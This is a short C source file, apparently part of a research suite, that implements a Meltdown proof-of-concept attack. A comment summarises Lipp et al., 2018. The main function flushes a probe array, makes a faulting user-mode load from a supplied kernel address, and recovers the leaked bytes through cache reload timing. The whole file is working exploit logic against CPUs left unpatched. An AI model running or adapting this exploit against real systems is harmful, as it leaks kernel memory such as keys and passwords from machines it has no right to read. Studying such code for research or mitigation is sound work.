/*
 * Meltdown (Lipp et al., 2018): a load of the kernel's memory from user mode faults when it retires;
 * until then its value is used, if the line is in the first-level cache. A first such load brings it
 * there.
 */
#include "attack.h"
#include "channel.h"
#include "faulting.h"
#include "secret.h"

static const uint8_t *probe;

static int sample(int index)
{
	use_secret(index);
	flush_probe(probe);
	flush_delays();
	send_faulting((const void *)(options.address + index), probe);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address)
		errx(2, "expected --address");
	open_secret();
	catch_faults();
	calibrate();
	probe = own_probe();
	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
	return 0;
}
